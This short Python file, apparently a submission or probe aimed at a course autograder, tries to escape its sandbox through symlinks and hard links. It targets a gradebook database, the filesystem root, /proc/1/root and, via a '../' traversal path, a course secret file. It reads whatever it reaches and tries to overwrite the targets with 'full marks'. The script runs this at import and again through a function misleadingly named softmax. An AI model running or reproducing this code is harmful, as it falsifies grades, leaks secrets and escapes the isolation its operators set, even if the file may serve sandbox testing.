"""Symbolic and hard links that lead out."""

import os

def follow():
    found = []
    for n, target in enumerate(("@COURSE@/gradebook.db", "/", "/proc/1/root", "../../../../../../@COURSE@/.course_secret")):
        for make in (os.symlink, os.link):
            try:
                make(target, f"/tmp/link{n}")
                found.append(open(f"/tmp/link{n}").read())
            except OSError:
                pass
            try:
                open(f"/tmp/link{n}", "w").write("full marks")
            except OSError:
                pass
    return found

print(follow())

def softmax(x):
    return follow()
